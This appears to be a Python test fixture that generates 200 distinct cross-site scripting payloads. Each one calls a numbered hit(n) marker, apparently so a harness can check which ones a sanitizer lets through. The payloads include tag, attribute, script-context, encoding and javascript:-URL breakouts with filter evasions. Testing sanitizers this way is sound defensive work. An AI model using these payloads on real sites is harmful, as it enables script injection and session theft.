"""Two hundred texts that run a script wherever a page lets one of them out of its place.

Each calls ``hit(n)`` with its own number; or is an address that does so when it is followed.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

N_PAYLOADS = 200

# @ stands for the call, ¶ for the end of a line.
TAGS = r"""
<script>@</script>
<script src="data:text/javascript,@"></script>
<img src=x onerror=@>
<img src="x:gif" onerror="@">
<IMG '''><SCRIPT>@</SCRIPT>'>
<svg onload=@>
<svg/onload=@>
<svg><script>@</script></svg>
<svg><animate onbegin=@ attributeName=x dur=1s>
<svg><a xlink:href="javascript:@"><text y=20>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=@></style></mglyph></table></mtext></math>
<details open ontoggle=@>
<body onload=@>
<input autofocus onfocus=@>
<select autofocus onfocus=@></select>
<textarea autofocus onfocus=@></textarea>
<a href=# tabindex=1 autofocus onfocus=@>x</a>
<video><source onerror=@></video>
<audio src=x onerror=@></audio>
<object data="data:text/html,<script>parent.@</script>"></object>
<embed src="javascript:@">
<iframe srcdoc="<script>parent.@</script>"></iframe>
<iframe src="javascript:parent.@"></iframe>
<form><button formaction="javascript:@">x</button></form>
<form action="javascript:@"><input type=submit></form>
<a href="javascript:@">x</a>
<a href=" &#106;avascript:@">x</a>
<a href="java&Tab;script:@">x</a>
<a href="data:text/html,<script>@</script>">x</a>
<base href="javascript:@//">
<meta http-equiv=refresh content="0;url=javascript:@">
<link rel=stylesheet href="x" onerror=@>
<style onload=@></style>
<noscript><p title="</noscript><img src=x onerror=@>">
<xmp><p title="</xmp><img src=x onerror=@>"></xmp>
<template><script>@</script></template><img src=x onerror=@>
<marquee onstart=@>x</marquee>
<p title='</p><img src=x onerror=@>'><img src=x onerror=@>
<scr<script>ipt>@</scr</script>ipt>
<<script>@//<</script>
<script>@<!--
<script/x>@</script >
<img/src=x/onerror=@>
<img src=x onerror	=¶@>
<!--><img src=x onerror=@>-->
<a onmouseover=@ style=position:fixed;inset:0>x</a>
""".splitlines()[1:]

# What ends the place that a text stands in: an attribute, an element, a script, a comment.
BREAKS = ('">', "'>", "</script>", "</title></textarea></style>", "-->", "]]>", '"/>', "</a></h1>")

# Out of an attribute without a tag.
ATTRIBUTES = (
    '" autofocus onfocus=@ x="',
    "' autofocus onfocus=@ x='",
    '" onload=@ onerror=@ x="',
    " autofocus onfocus=@ x=",
    "` onerror=@ `",
    '"onpointerrawupdate="@"',
    '" style="animation-name:x" onanimationstart=@ x="',
)

# Out of a script, a template, or an encoding that is undone once too often.
OTHERS = (
    "';@;//",
    '";@;//',
    "\\';@;//",
    "\\u0022;@;//",
    "`+@+`",
    "${@}",
    "{{constructor.constructor('@')()}}",
    "{{7*7}}{% include 'x' %}<script>@</script>",
    "&lt;img src=x onerror=@&gt;",
    "&amp;lt;img src=x onerror=@&amp;gt;",
    "&#60;img src=x onerror=@&#62;",
    "&#x3c;script&#x3e;@&#x3c;/script&#x3e;",
    "%3Cscript%3E@%3C/script%3E",
    "%253Cscript%253E@%253C/script%253E",
    "\\u003cscript\\u003e@\\u003c/script\\u003e",
    "\\x3cscript\\x3e@\\x3c/script\\x3e",
    "＜script＞@＜/script＞",
    "<ſcript>@</ſcript>",
    "\u2028</script><script>@</script>",
    "+ADw-script+AD4-@+ADw-/script+AD4-",
    '{"title": "</script><script>@</script>"}',
    "<![CDATA[<script>@</script>]]>",
)

ADDRESSES = (
    "javascript:@",
    "JaVaScRiPt:@",
    "\x01javascript:@",
    " javascript:@",
    "java\nscript:@",
    "javascript://news.example/%0a@",
    "javascript:@//https://news.example/",
    "data:text/html,<script>@</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "vbscript:@",
    "view-source:javascript:@",
    "blob:javascript:@",
    "filesystem:javascript:@",
    'https://news.example/" onerror=@ x="',
    "https://news.example/'><script>@</script>",
    '//news.example/"><img src=x onerror=@>',
    '/\\news.example/"><img src=x onerror=@>',
)


def payloads() -> list[str]:
    """The texts, each different; number n calls ``hit(n)``."""
    distinct = list(dict.fromkeys(_all()))[:N_PAYLOADS]
    return [text.replace("@", f"hit({n})") for n, text in enumerate(distinct)]


def _all() -> Iterator[str]:
    tags = [tag.replace("¶", "\n") for tag in TAGS]
    yield from tags
    yield from ATTRIBUTES
    yield from OTHERS
    yield from ADDRESSES
    for n, tag in enumerate(tags):  # each out of three of the places
        yield from (BREAKS[(n + turn) % len(BREAKS)] + tag for turn in (0, 3, 5))
    for n, tag in enumerate(tags):
        yield re.sub(r"<[a-z]+", lambda found: found[0].upper(), BREAKS[n % len(BREAKS)] + tag)
